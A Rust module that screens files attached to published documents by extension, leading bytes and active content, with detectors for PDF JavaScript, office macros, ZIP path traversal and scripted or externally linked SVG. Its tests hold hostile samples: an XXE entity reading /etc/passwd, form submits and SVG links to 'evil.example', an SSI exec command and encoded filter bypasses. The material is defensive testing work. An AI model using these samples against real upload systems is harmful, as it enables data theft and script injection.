//! Files beside documents: which kinds may be published. A kind is its extension and its first bytes together; what is not on the list stays inside.

mod office;
mod pdf;
pub mod words;

use super::stamp::Mark;
use crate::diagnostics::Diagnostic;
use crate::diagnostics::catalogue::trust as catalogue;
use crate::path::{PHOTO_ENDINGS, SourcePath};
use crate::span::Span;

/// What the extensions of a kind have in common.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Made anew by the photo room, whatever is in it.
    Photo,
    Pdf,
    /// Office files of today: a ZIP with a list of its parts.
    Office,
    /// Office files of before 2007.
    OldOffice,
    Text,
    Drawing,
    Sound,
}

const KINDS: &[(Kind, &[&str])] = &[
    (Kind::Photo, &PHOTO_ENDINGS),
    (Kind::Pdf, &["pdf"]),
    (Kind::Office, &["docx", "xlsx", "pptx", "odt", "ods", "odp"]),
    (Kind::OldOffice, &["doc", "xls", "ppt"]),
    (Kind::Text, &["csv", "txt", "json", "geojson", "ics"]),
    (Kind::Drawing, &["svg"]),
    (Kind::Sound, &["mp3", "m4a", "mp4", "ogg", "vtt"]),
];

/// Whether a file is of a kind that is plain text.
pub fn is_text(path: &SourcePath) -> bool {
    let extension = path.extension().unwrap_or_default();
    extension == "vtt" || KINDS.iter().any(|(kind, extensions)| *kind == Kind::Text && extensions.contains(&extension.as_str()))
}

/// Whether a file is one of today's office files, whose words can be read.
pub fn is_office(path: &SourcePath) -> bool {
    let extension = path.extension().unwrap_or_default();
    KINDS.iter().any(|(kind, extensions)| *kind == Kind::Office && extensions.contains(&extension.as_str()))
}

/// What stands in the way of publishing this file; nothing where it may go out.
pub fn judge(path: &SourcePath, bytes: &[u8]) -> Option<Diagnostic> {
    let extension = path.extension().unwrap_or_default();
    let kind = KINDS.iter().find(|(_, extensions)| extensions.contains(&extension.as_str())).map(|(kind, _)| *kind);
    let Some(kind) = kind else {
        return Some(Diagnostic::in_file(&catalogue::FILE_KIND, path).with("extension", &extension));
    };
    // "bao-cao.php.pdf" and "bao-cao.asp;.pdf" are run by some servers.
    let inner = path.file_name().rsplit(['.', ';']).skip(1);
    if let Some(part) = inner.take(8).find(|part| runs(part)) {
        return Some(Diagnostic::in_file(&catalogue::FILE_KIND, path).with("extension", format!("{part}.{extension}")));
    }
    let is_kind = match kind {
        Kind::Photo => true,
        Kind::Pdf => bytes.starts_with(b"%PDF-"),
        Kind::Office => bytes.starts_with(b"PK\x03\x04"),
        Kind::OldOffice => bytes.starts_with(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        Kind::Text => simdutf8::basic::from_utf8(bytes).is_ok() && memchr::memchr(0, bytes).is_none(),
        Kind::Drawing => is_drawing(bytes),
        Kind::Sound => is_sound(bytes),
    };
    if !is_kind {
        return Some(Diagnostic::in_file(&catalogue::FILE_MISMATCH, path).with("extension", &extension));
    }
    let mut titles = Vec::new();
    if let Some(what) = active(kind, bytes, &mut titles) {
        return Some(Diagnostic::in_file(&catalogue::FILE_ACTIVE, path).with("what", what));
    }
    // A draft's title is often left in what was issued; what is secret or internal stays inside whatever else it is.
    titles.iter().find_map(|title| {
        let entry = match super::places::in_title(title, Span::default())?.mark {
            Mark::Secret(_) => &catalogue::SECRET_STAMP,
            Mark::Internal => &catalogue::INTERNAL_STAMP,
            Mark::Draft => return None,
        };
        Some(Diagnostic::in_file(entry, path).with("words", title.chars().take(80).collect::<String>()))
    })
}

/// Whether a part of a file's name is an ending that a server or a system runs.
fn runs(part: &str) -> bool {
    const RUN: &[&str] = &[
        "php", "phtml", "asp", "aspx", "ashx", "jsp", "exe", "dll", "js", "html", "htm", "shtml", "cgi", "pl", "py", "sh", "bat",
        "cmd", "ps1", "vbs", "hta", "scr", "lnk", "jar", "swf",
    ];
    RUN.contains(&part.to_ascii_lowercase().as_str())
}

/// Whether the list of a ZIP archive (APPNOTE.TXT, 4.3.12) names a file that runs, or one that climbs out.
fn packs_a_program(bytes: &[u8]) -> bool {
    memchr::memmem::find_iter(bytes, b"PK\x01\x02").any(|at| {
        let length = bytes.get(at + 28..at + 30).and_then(|length| length.try_into().ok()).map_or(0, u16::from_le_bytes);
        let name = bytes.get(at + 46..at + 46 + usize::from(length)).unwrap_or_default();
        let name = String::from_utf8_lossy(name);
        name.split(['/', '\\']).any(|part| part == "..") || name.rsplit_once('.').is_some_and(|(_, ending)| runs(ending))
    })
}

fn is_sound(bytes: &[u8]) -> bool {
    bytes.starts_with(b"ID3")
        || bytes.starts_with(b"OggS")
        || bytes.starts_with(b"WEBVTT")
        || bytes.get(4..8) == Some(b"ftyp")
        || matches!(bytes, [0xff, second, ..] if second & 0xe0 == 0xe0)
}

fn is_drawing(bytes: &[u8]) -> bool {
    let Ok(text) = simdutf8::basic::from_utf8(bytes) else { return false };
    let mut rest = text.trim_start_matches('\u{feff}').trim_start();
    while let Some(head) =
        rest.strip_prefix("<?").map(|rest| (rest, "?>")).or_else(|| rest.strip_prefix("<!--").map(|rest| (rest, "-->")))
    {
        let (inside, close) = head;
        let Some((_, after)) = inside.split_once(close) else { return false };
        rest = after.trim_start();
    }
    rest.starts_with("<svg")
}

/// What a file would do besides being read; adds the titles of a PDF.
fn active(kind: Kind, bytes: &[u8], titles: &mut Vec<String>) -> Option<&'static str> {
    let has = |words: &[u8]| memchr::memmem::find(bytes, words).is_some();
    let beginning: Vec<u8> = bytes.iter().take(2048).map(u8::to_ascii_lowercase).collect();
    let begins_with = |words: &[u8]| memchr::memmem::find(&beginning, words).is_some();
    if kind != Kind::Drawing
        && [&b"<script"[..], b"<html", b"<?php", b"<%@", b"<!doctype html", b"<iframe", b"<svg"].into_iter().any(begins_with)
    {
        return Some("HTML, script");
    }
    match kind {
        Kind::Pdf if ends_as_zip(bytes) => Some("ZIP"),
        Kind::Pdf => pdf::acts(bytes, titles),
        Kind::Office if [&b"vbaProject"[..], b"macrosheets", b"activeX", b"oleObject", b"embeddings/"].into_iter().any(has) => {
            Some("macro, OLE")
        }
        Kind::Office if packs_a_program(bytes) => Some("program, HTML"),
        Kind::Office if !(has(b"[Content_Types].xml") || has(b"mimetypeapplication/vnd.oasis")) => Some("ZIP"),
        Kind::Office => office::acts(bytes),
        Kind::OldOffice if has(b"_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T") => Some("macro"),
        Kind::Text => {
            let lower: Vec<u8> = bytes.iter().map(u8::to_ascii_lowercase).collect();
            let found = [&b"<script"[..], b"javascript:", b"<iframe", b"<?php", b"<?=", b"<%=", b"<%@", b"<!--#"]
                .into_iter()
                .any(|words| memchr::memmem::find(&lower, words).is_some());
            found.then_some("HTML, script")
        }
        Kind::Drawing => drawing_acts(bytes),
        _ => None,
    }
}

/// A ZIP archive reads its list from the end of a file, so that one file can be two things.
fn ends_as_zip(bytes: &[u8]) -> bool {
    let end = bytes.get(bytes.len().saturating_sub(66_000)..).unwrap_or_default();
    memchr::memmem::rfind(end, b"PK\x05\x06").is_some()
}

/// Elements of which a drawing may be made.
const SHAPES: &[&str] = &[
    "svg",
    "g",
    "path",
    "rect",
    "circle",
    "ellipse",
    "line",
    "polyline",
    "polygon",
    "text",
    "tspan",
    "title",
    "desc",
    "defs",
    "lineargradient",
    "radialgradient",
    "stop",
    "clippath",
    "mask",
    "pattern",
    "symbol",
    "use",
    "marker",
    "metadata",
    "textpath",
    "switch",
    "filter",
];

fn drawing_acts(bytes: &[u8]) -> Option<&'static str> {
    let lower = String::from_utf8_lossy(bytes).to_lowercase();
    if lower.contains("<!doctype")
        || lower.contains("<!entity")
        || lower.contains("<![cdata[")
        || lower.contains("<?xml-stylesheet")
    {
        return Some("DOCTYPE, ENTITY, stylesheet");
    }
    for tag in lower.split('<').skip(1) {
        let name =
            tag.trim_start_matches('/').split(|c: char| c.is_whitespace() || matches!(c, '>' | '/')).next().unwrap_or_default();
        let plain = name.rsplit(':').next().unwrap_or_default();
        if name.starts_with(['!', '?']) {
            continue;
        }
        if !SHAPES.contains(&plain) {
            return Some("script, style, foreignObject, image, animation");
        }
        let inner = tag.split('>').next().unwrap_or_default();
        let seen = super::visible::seen(inner);
        for (at, _) in seen.match_indices('=') {
            let key = seen
                .get(..at)
                .unwrap_or_default()
                .trim_end()
                .rsplit(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '/'))
                .next()
                .unwrap_or_default();
            let value = seen.get(at + 1..).unwrap_or_default().trim_start().trim_start_matches(['"', '\'']).trim_start();
            if key.starts_with("on")
                || (key.ends_with("href") && !value.starts_with('#'))
                || (key == "style" && (value.contains("url(") || value.contains("@import") || value.contains('\\')))
            {
                return Some("on…=, href, url(…)");
            }
        }
        if seen.contains("url(") && seen.split("url(").skip(1).any(|to| !to.trim_start_matches(['"', '\'', ' ']).starts_with('#'))
        {
            return Some("url(…)");
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::{Cursor, Write};

    /// An office file of these parts.
    pub(super) fn packed(parts: &[(&str, &str)]) -> Vec<u8> {
        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, text) in parts {
            zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
            zip.write_all(text.as_bytes()).unwrap();
        }
        zip.finish().unwrap().into_inner()
    }

    fn code(name: &str, bytes: &[u8]) -> &'static str {
        judge(&SourcePath::new(name), bytes).map_or("", |problem| problem.entry.code)
    }

    #[test]
    fn kinds_that_are_not_on_the_list_stay_inside() {
        for name in [
            "a.html",
            "a.htm",
            "a.php",
            "a.aspx",
            "a.js",
            "a.exe",
            "a.zip",
            "a.7z",
            "a.docm",
            "a.xlsm",
            "a.swf",
            "a",
            "a.md5",
            "a.xml",
            "a.rtf",
            "a.php.pdf",
            "a.html.csv",
            "a.asp;.pdf",
        ] {
            assert_eq!(code(name, b"%PDF-1.7"), "CB0643", "{name}");
        }
    }

    #[test]
    fn the_first_bytes_must_be_those_of_the_kind() {
        for (name, bytes) in [
            ("a.pdf", &b"<html>"[..]),
            ("a.pdf", b"x%PDF-1.4"),
            ("a.docx", b"%PDF-1.4"),
            ("a.doc", b"PK\x03\x04"),
            ("a.csv", b"MZ\0\0"),
            ("a.svg", b"<html><svg>"),
            ("a.mp3", b"<script>"),
        ] {
            assert_eq!(code(name, bytes), "CB0644", "{name}");
        }
    }

    #[test]
    fn files_of_two_kinds_and_files_that_act_are_refused() {
        for (name, bytes) in [
            ("a.pdf", &b"%PDF-1.4\n<script>x</script>"[..]),
            ("a.pdf", b"%PDF-1.4\n1 0 obj <</S /JavaScript /JS (x)>>"),
            ("a.pdf", b"%PDF-1.4\n1 0 obj <</S /J#61vaScript /J#53 (x)>>"),
            ("a.pdf", b"%PDF-1.4 x PK\x05\x06 y"),
            ("a.docx", b"PK\x03\x04 [Content_Types].xml word/vbaProject.bin"),
            ("a.pdf", b"%PDF-1.4\n<</S /SubmitForm /F (https://evil.example)>>"),
            ("a.docx", b"PK\x03\x04 evil.html"),
            ("a.svg", b"<svg><rect style=\"fill:u\\72l(//evil.example/)\"/></svg>"),
            ("a.csv", b"a;<SCRIPT>x</SCRIPT>"),
            ("a.txt", b"<%= Request(\"x\") %>"),
            ("a.txt", b"<!--#EXEC cmd=\"ls\" -->"),
            ("a.svg", b"<svg><script>x</script></svg>"),
            ("a.svg", b"<svg onload=\"x()\"></svg>"),
            ("a.svg", b"<svg><a href=\"javascript:x\"><path/></a></svg>"),
            ("a.svg", b"<svg><use xlink:href=\"https://evil.example/x#a\"/></svg>"),
            ("a.svg", b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>"),
            ("a.svg", b"<svg><foreignObject/></svg>"),
            ("a.svg", b"<svg><path style=\"fill:url(https://evil.example/)\"/></svg>"),
            ("a.svg", b"<svg><image href=\"https://evil.example/x.png\"/></svg>"),
        ] {
            assert!(matches!(code(name, bytes), "CB0644" | "CB0645"), "{name} {}", String::from_utf8_lossy(bytes));
        }
        // The list at the end of an archive, with one name.
        let packed = |name: &str| {
            let length = u16::try_from(name.len()).unwrap().to_le_bytes();
            [b"PK\x03\x04 [Content_Types].xml PK\x01\x02", [0; 24].as_slice(), &length, &[0; 16], name.as_bytes()].concat()
        };
        for (name, expected) in
            [("word/document.xml", ""), ("evil.exe", "CB0645"), ("a/EVIL.HTML", "CB0645"), ("../a.xml", "CB0645")]
        {
            assert_eq!(code("a.docx", &packed(name)), expected, "{name}");
        }
    }

    #[test]
    fn ordinary_files_go_out() {
        for (name, bytes) in [
            ("a.pdf", &b"%PDF-1.7\n1 0 obj"[..]),
            ("a.pdf", b"%PDF-1.7\n/Font#20A /#4aa # /J# \xff#"),
            ("a.docx", b"PK\x03\x04 [Content_Types].xml word/document.xml"),
            ("a.csv", "chi_tieu;thuc_hien\nhộ nghèo;3,2".as_bytes()),
            ("A.JPG", b"\xff\xd8"),
            ("so-do.svg", b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><g fill=\"url(#g)\"><path d=\"M0 0\"/></g></svg>"),
        ] {
            assert_eq!(code(name, bytes), "", "{name}");
        }
    }
}
